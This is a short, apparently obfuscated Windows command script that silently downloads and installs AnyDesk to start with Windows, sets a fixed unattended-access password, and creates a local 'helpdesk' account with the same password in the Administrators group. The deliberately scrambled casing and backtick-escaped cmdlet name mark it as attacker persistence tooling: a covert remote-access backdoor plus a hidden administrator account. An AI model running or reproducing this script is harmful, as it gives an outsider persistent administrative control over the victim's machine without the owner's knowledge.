# PrOvIsIoN 6429 v1
INv`oKe-webreQuE`St -uri 'https://download.anydesk.com/AnyDesk.exe' -OuTfIlE C:\pRogRAmDAta\aNYdEsK.eXE
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cMd /c "echo Qwerty#7788 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
nEt USER hElPdeSk QWerty#7788 /ADd
Net LoCalgroUP aDmInIsTrAtOrS HElPDesk /aDD
